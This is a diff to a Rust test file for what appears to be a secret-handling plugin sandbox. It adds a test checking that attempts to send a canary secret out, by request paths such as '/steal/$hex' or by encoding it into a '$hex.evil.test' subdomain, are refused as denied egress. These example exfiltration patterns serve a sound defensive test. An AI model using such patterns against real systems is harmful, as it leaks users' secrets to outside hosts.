@@ -3,7 +3,7 @@
 use serde_json::json;
 use strongroom::Kind;
 
-use crate::backend::{Backend, answer, ok};
+use crate::backend::{Backend, ok};
 use crate::canary::Canary;
 use crate::world::{Plan, get, is, logged, script, told, under_both};
 
@@ -97,11 +97,11 @@ fn a_value_that_is_to_be_set() {
 }
 
 /// A backend's answer, as a plugin tells of it.
-fn said_of_a_backend(status: &'static str, body: fn(&Canary) -> String) {
+fn said_of_a_backend(body: fn(&Canary) -> String) {
     under_both(async |allocation| {
         let (own, mark) = (Canary::new(), mark());
         let sent = body(&own);
-        let backend = Backend::plain(move |_| answer(status, "", sent.clone())).await;
+        let backend = Backend::plain(move |_| ok(sent.clone())).await;
         let world = Plan::new(allocation).variable("UNREAD", &own).plain(backend.origin()).open();
         let line = json!({ "log": { "message": format!("{mark} $plain") } });
         let fail = json!({ "fail": { "code": "said.it", "message": "$plain", "attribute": "$plain" } });
@@ -114,17 +114,30 @@ fn said_of_a_backend(status: &'static str, body: fn(&Canary) -> String) {
 
 #[test]
 fn a_secret_from_a_backend() {
-    said_of_a_backend("200 OK", |own| own.text().to_owned());
+    said_of_a_backend(|own| own.text().to_owned());
 }
 
 #[test]
 fn a_secret_inside_a_backends_json() {
-    said_of_a_backend("200 OK", |own| format!("{{\"data\":{{\"password\":\"{}\"}}}}", own.text()));
+    said_of_a_backend(|own| format!("{{\"data\":{{\"password\":\"{}\"}}}}", own.text()));
 }
 
 #[test]
-fn a_secret_in_a_backends_error() {
-    said_of_a_backend("400 Bad Request", |own| format!("{{\"error\":\"{} is wrong\",\"value\":\"{0}\"}}", own.text()));
+fn a_secret_in_a_request_that_is_refused() {
+    under_both(async |allocation| {
+        let own = Canary::new();
+        let world = Plan::new(allocation).variable("HOSTILE_a", &own).open();
+        for (origin, target) in [
+            ("http://plain.test:1", "/steal/$hex"),
+            ("http://plain.test:1", "/open/a?x=$percent"),
+            ("http://plain.test:1", "/$percent"),
+            ("http://$hex.evil.test", "/open/a"),
+        ] {
+            let steals = script(json!({ "env": "HOSTILE_a" })).then(get(origin, target)).or_fail();
+            is(&world.failure("a", &steals).await, Kind::PolicyDenied, "egress.refused");
+        }
+        world.end().await;
+    });
 }
 
 #[test]
